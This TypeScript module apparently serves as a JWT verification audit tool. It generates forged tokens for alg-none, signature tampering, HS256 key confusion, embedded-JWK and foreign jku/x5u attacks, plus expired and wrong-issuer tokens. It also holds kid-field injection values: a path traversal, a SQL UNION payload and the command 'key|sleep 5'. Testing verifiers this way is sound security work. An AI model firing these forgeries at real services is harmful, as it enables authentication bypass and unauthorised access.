import { createHmac, createPrivateKey, createPublicKey, generateKeyPairSync, sign, type KeyObject } from 'node:crypto';

type Json = Record<string, unknown>;

/** A token an attacker made, and what it tries. */
export interface Forgery {
  readonly variant: string;
  readonly token: string;
}

const part = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

export function decodeToken(token: string): { header: Json; payload: Json; signature: string } | undefined {
  const [header, payload, signature] = token.split('.');
  if (header === undefined || payload === undefined || signature === undefined) return undefined;
  try {
    return {
      header: JSON.parse(Buffer.from(header, 'base64url').toString()) as Json,
      payload: JSON.parse(Buffer.from(payload, 'base64url').toString()) as Json,
      signature,
    };
  } catch {
    return undefined;
  }
}

function hs256(header: Json, payload: Json, secret: string | Buffer): string {
  const input = `${part({ ...header, alg: 'HS256' })}.${part(payload)}`;
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
}

function signWith(key: KeyObject, header: Json, payload: Json): string {
  const input = `${part(header)}.${part(payload)}`;
  const alg = String(header['alg']);
  const signature =
    alg === 'ES256'
      ? sign('sha256', Buffer.from(input), { key, dsaEncoding: 'ieee-p1363' })
      : alg === 'EdDSA'
        ? sign(null, Buffer.from(input), key)
        : sign('sha256', Buffer.from(input), key);
  return `${input}.${signature.toString('base64url')}`;
}

/**
 * The JWT battery an attacker without the signing key can build from one valid token (jwt_tool's playbook): alg none
 * in four casings, tampered and stripped signatures, HS256 with empty, common and public-key secrets, an embedded JWK,
 * a foreign jku and x5u, kid injection.
 */
export function attackerForgeries(token: string, publicKeys: readonly Json[]): Forgery[] {
  const decoded = decodeToken(token);
  if (decoded === undefined) return [];
  const { header, payload, signature } = decoded;
  const forgeries: Forgery[] = [];
  const body = `${part(header)}.${part(payload)}`;
  for (const alg of ['none', 'None', 'NONE', 'nOnE']) {
    forgeries.push({ variant: `alg ${alg}`, token: `${part({ ...header, alg })}.${part(payload)}.` });
  }
  forgeries.push({
    variant: 'alg none with the original signature',
    token: `${part({ ...header, alg: 'none' })}.${part(payload)}.${signature}`,
  });
  const flipped = signature.slice(0, 10) + (signature[10] === 'A' ? 'B' : 'A') + signature.slice(11);
  forgeries.push({ variant: 'altered signature', token: `${body}.${flipped}` });
  forgeries.push({ variant: 'stripped signature', token: `${body}.` });
  forgeries.push({
    variant: 'altered payload',
    token: `${part(header)}.${part({ ...payload, sub: `${String(payload['sub'])}x` })}.${signature}`,
  });
  forgeries.push({ variant: 'HS256 with an empty secret', token: hs256(header, payload, '') });
  forgeries.push({ variant: 'HS256 with a common secret', token: hs256(header, payload, 'secret') });
  for (const [index, jwk] of publicKeys.entries()) {
    try {
      const pem = createPublicKey({ key: jwk, format: 'jwk' }).export({
        type: 'spki',
        format: 'pem',
      }) as string;
      forgeries.push({ variant: `HS256 keyed with public key ${index + 1} (PEM)`, token: hs256(header, payload, pem) });
      forgeries.push({
        variant: `HS256 keyed with public key ${index + 1} (JWK)`,
        token: hs256(header, payload, JSON.stringify(jwk)),
      });
    } catch {
      // a key node cannot read is no key an attacker can use either
    }
  }
  const attacker = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const attackerJwk = attacker.publicKey.export({ format: 'jwk' });
  const attackerHeader = { ...header, alg: 'ES256' };
  forgeries.push({
    variant: 'embedded jwk',
    token: signWith(attacker.privateKey, { ...attackerHeader, jwk: attackerJwk }, payload),
  });
  forgeries.push({
    variant: 'foreign jku',
    token: signWith(
      attacker.privateKey,
      { ...attackerHeader, jku: 'https://attacker.invalid/jwks.json', kid: 'attacker' },
      payload,
    ),
  });
  forgeries.push({
    variant: 'foreign x5u',
    token: signWith(
      attacker.privateKey,
      { ...attackerHeader, x5u: 'https://attacker.invalid/cert.pem', kid: 'attacker' },
      payload,
    ),
  });
  forgeries.push({
    variant: 'kid path traversal',
    token: hs256({ ...header, kid: '../../../../../../dev/null' }, payload, ''),
  });
  forgeries.push({
    variant: 'kid SQL injection',
    token: hs256({ ...header, kid: "x' UNION SELECT 'attacker' --" }, payload, 'attacker'),
  });
  forgeries.push({ variant: 'kid command injection', token: hs256({ ...header, kid: 'key|sleep 5' }, payload, '') });
  return forgeries;
}

/**
 * Tokens properly signed with the service's own key whose claims must still be refused: expired, not yet valid, another
 * issuer, another audience. Only an in-process audit holds the key; `control` must be accepted for them to mean anything.
 */
export function signedForgeries(
  token: string,
  privateJwk: Json,
): { control: string; forgeries: Forgery[] } | undefined {
  const decoded = decodeToken(token);
  if (decoded === undefined) return undefined;
  const { header, payload } = decoded;
  const key = createPrivateKey({ key: privateJwk, format: 'jwk' });
  const now = Math.floor(Date.now() / 1000);
  return {
    control: signWith(key, header, payload),
    forgeries: [
      {
        variant: 'expired an hour ago',
        token: signWith(key, header, { ...payload, iat: now - 7200, exp: now - 3600 }),
      },
      { variant: 'not valid for another hour (nbf)', token: signWith(key, header, { ...payload, nbf: now + 3600 }) },
      { variant: 'another issuer', token: signWith(key, header, { ...payload, iss: 'https://attacker.invalid' }) },
      { variant: 'another audience', token: signWith(key, header, { ...payload, aud: 'another-api' }) },
      {
        variant: 'no expiry',
        token: signWith(key, header, Object.fromEntries(Object.entries(payload).filter(([name]) => name !== 'exp'))),
      },
    ],
  };
}
